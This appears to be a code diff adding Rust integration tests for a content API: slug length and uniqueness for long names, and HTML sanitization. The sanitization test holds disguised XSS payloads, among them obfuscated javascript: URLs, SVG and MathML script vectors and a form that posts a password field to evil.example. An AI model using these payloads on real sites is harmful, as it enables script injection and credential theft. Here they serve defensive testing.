@@ -249,6 +249,48 @@ async fn slugs_are_generated_transliterated_deduplicated_and_protected() {
 }
 
 #[actix_web::test]
+async fn slugs_made_unique_from_long_names_stay_within_120_characters() {
+    let app = TestApp::new();
+    let token = editor(&app).await;
+    // 200 characters each: the first two agree on their first 120 and need a suffix to differ;
+    // the last has no letter and needs the `n-` prefix too.
+    let words = "Word ".repeat(39);
+    let texts = [
+        format!("{words}Alpha"),
+        format!("{words}Beta!"),
+        "2024 ".repeat(40).trim().to_owned(),
+        "2024 ".repeat(40).trim().to_owned(),
+    ];
+    let mut articles = Vec::new();
+    let mut tags = Vec::new();
+    for text in &texts {
+        let article = app
+            .post_json("/api/v1/articles", Some(&token), article_body(text))
+            .await
+            .json(201);
+        articles.push(article["slug"].as_str().unwrap().to_owned());
+    }
+    for text in &texts[..2] {
+        let tag = app
+            .post_json("/api/v1/tags", Some(&token), json!({"name": text}))
+            .await
+            .json(201);
+        let slug = tag["slug"].as_str().unwrap().to_owned();
+        app.get(&format!("/api/v1/tags/{slug}")).await.json(200);
+        tags.push(slug);
+    }
+    for slug in articles.iter().chain(&tags) {
+        assert!(slug.len() <= 120, "{} characters: {slug}", slug.len());
+        assert!(!slug.ends_with('-') && !slug.contains("--"), "{slug}");
+    }
+    assert!(articles[1].ends_with("-2") && articles[3].ends_with("-2") && tags[1].ends_with("-2"));
+    assert!(articles[2].starts_with("n-2024-"), "{}", articles[2]);
+    let distinct: std::collections::HashSet<_> = articles.iter().collect();
+    assert_eq!(distinct.len(), 4, "{articles:?}");
+    assert_ne!(tags[0], tags[1]);
+}
+
+#[actix_web::test]
 async fn hostile_html_is_sanitized_before_it_is_stored() {
     let app = TestApp::new();
     let token = editor(&app).await;
@@ -284,6 +326,60 @@ async fn hostile_html_is_sanitized_before_it_is_stored() {
         "styled",
     ] {
         assert!(stored.contains(good), "`{good}` lost: {stored}");
+    }
+}
+
+#[actix_web::test]
+async fn disguised_script_urls_svg_math_forms_and_css_come_back_inert() {
+    let app = TestApp::new();
+    let token = editor(&app).await;
+    let mut body = article_body("Disguised");
+    body["status"] = json!("published");
+    body["body"] = json!(concat!(
+        r#"<p><a href="JaVaScRiPt:alert(1)">a</a><a href="javascript&#58;alert(1)">b</a>"#,
+        r#"<a href="java&#9;script:alert(1)">c</a><a href="vbscript:msgbox(1)">d</a>"#,
+        r#"<a href="data:text/html;base64,PHNjcmlwdD4=">e</a><img src="data:image/png;base64,AAAA" alt="f"></p>"#,
+        r#"<svg onload="alert(1)"><a xlink:href="javascript:alert(1)">g</a></svg>"#,
+        r#"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>"#,
+        r#"<form action="https://evil.example/steal"><input name="password"><button formaction="javascript:alert(1)">h</button></form>"#,
+        r#"<p style="background:url(javascript:alert(1))">i</p><blockquote cite="javascript:alert(1)">j</blockquote>"#,
+        r#"<p><a href="//evil.example/k">k</a><img src="//cdn.example/l.jpg" alt="l"><a href="/sections/world">m</a></p>"#,
+    ));
+    app.post_json("/api/v1/articles", Some(&token), body)
+        .await
+        .json(201);
+    let stored = app.get("/api/v1/articles/disguised").await.json(200)["body"]
+        .as_str()
+        .unwrap()
+        .to_owned();
+    let lower = stored.to_ascii_lowercase();
+    for live in [
+        "javascript",
+        "vbscript",
+        "data:",
+        "<svg",
+        "<math",
+        "<form",
+        "<input",
+        "<button",
+        "<style",
+        "style=",
+        "onload",
+        "onerror",
+        "action=",
+        "xlink",
+        "url(",
+        r#"="//"#,
+    ] {
+        assert!(!lower.contains(live), "`{live}` survived: {stored}");
+    }
+    for kept in [
+        r#"href="https://evil.example/k""#,
+        r#"src="https://cdn.example/l.jpg""#,
+        r#"href="/sections/world""#,
+        "<blockquote>j</blockquote>",
+    ] {
+        assert!(stored.contains(kept), "`{kept}` lost: {stored}");
     }
 }
 
